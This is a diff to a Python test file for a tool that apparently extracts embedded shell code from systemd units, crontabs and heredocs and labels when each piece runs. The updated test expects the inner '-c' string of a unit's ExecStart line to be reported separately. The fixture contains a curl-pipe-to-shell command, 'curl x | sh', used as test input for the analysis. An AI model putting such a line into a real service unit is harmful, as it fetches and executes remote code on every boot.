@@ -81,7 +81,10 @@ def test_a_perl_statement_modifier_loop_sets_the_topic_from_its_list() -> None:
 
 def test_units_crontabs_and_heredocs_into_them_are_code_run_at_every_start() -> None:
     unit = embedded.pieces("u/x.service", "[Service]\nExecStart=-/bin/sh -c 'curl x | sh'\n")
-    assert [(p.line, p.text, p.phase) for p in unit] == [(2, "/bin/sh -c 'curl x | sh'", "boot")]
+    assert [(p.line, p.text, p.phase) for p in unit] == [
+        (2, "/bin/sh -c 'curl x | sh'", "boot"),
+        (2, "curl x | sh", "boot"),  # the shell's own `-c` string, as shell
+    ]
     cron = embedded.pieces("cron/crontab", "# hourly\n0 * * * * /usr/bin/backup --all\n")
     assert [(p.line, p.text) for p in cron] == [(2, "/usr/bin/backup --all")]
     script = 'rc="$HOME/.bashrc"\ncat >> "$rc" <<EOF\nalias ll="ls -l"\nEOF\n'
